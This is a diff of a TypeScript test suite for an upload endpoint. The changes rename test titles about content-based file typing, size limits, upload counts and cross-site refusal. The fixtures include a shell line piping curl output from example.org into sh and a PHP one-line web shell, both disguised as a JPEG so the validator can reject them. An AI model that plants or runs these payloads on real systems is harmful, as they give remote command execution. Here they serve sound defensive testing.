@@ -41,7 +41,7 @@ async function expectRefused(code: Parameters<typeof problemOf>[0], name: string
   return problem
 }
 
-describe('what a file is, is decided by its content', () => {
+describe('the kind of a file is decided by its content', () => {
   test.each([
     ['zdjęcie.jpg', '#!/bin/sh\ncurl http://example.org | sh\n'],
     ['zdjęcie.jpg', '<?php system($_GET["c"]); ?>'],
@@ -124,8 +124,8 @@ describe('what a file is, is decided by its content', () => {
   )
 })
 
-describe('how much comes is limited while it comes', () => {
-  test('fifty megabytes are refused, and told in words', async () => {
+describe('the size of an upload is limited while it arrives', () => {
+  test('fifty megabytes are refused with a sentence', async () => {
     const problem = problemOf(
       'file_too_large',
       await send('film.pdf', Buffer.concat([pdf(), Buffer.alloc(50 * MB)])),
@@ -133,7 +133,7 @@ describe('how much comes is limited while it comes', () => {
     expect(problem.problems).toMatchObject([{ message: 'Ten plik jest za duży. Wybierz plik do 5\u00a0MB.' }])
   })
 
-  test('ten gigabytes that are announced are refused before any is sent', async () => {
+  test('ten announced gigabytes are refused before any is sent', async () => {
     const started = performance.now()
     const answer = await uploadRaw(site.visitor, {
       ...{
@@ -161,7 +161,7 @@ describe('how much comes is limited while it comes', () => {
     ])
   })
 
-  test('an endless one ends with its connection', async () => {
+  test('an endless upload ends with its connection', async () => {
     const chunk = Buffer.alloc(256 * 1024, 'x')
     let sent = 0
     const endless = uploadRaw(site.visitor, {
@@ -200,7 +200,7 @@ describe('how much comes is limited while it comes', () => {
     expect(performance.now() - started).toBeLessThan(9_000)
   })
 
-  test('one that breaks off leaves nothing', async () => {
+  test('an interrupted upload leaves nothing', async () => {
     const before = [await countRows(), (await stored()).length]
     const headers = { ...fresh(), 'content-length': '5000' }
     const broken = uploadRaw(site.visitor, {
@@ -215,7 +215,7 @@ describe('how much comes is limited while it comes', () => {
   })
 })
 
-describe('how many come is limited', () => {
+describe('the number of uploads is limited', () => {
   test('by the form, also when they come at once', async () => {
     const draft = newDraft()
     const answers = await Promise.all([1, 2, 3, 4].map((n) => send('a.pdf', pdf(`of four ${n}`), draft)))
@@ -238,7 +238,7 @@ describe('how many come is limited', () => {
   })
 })
 
-describe('who may not', () => {
+describe('without a right', () => {
   test('another site uploads nothing for this event, and a page without the token of this site neither', async () => {
     const draft = newDraft()
     const elsewhere = new Client(site.server.port, 'nikt.zapisano.localhost')
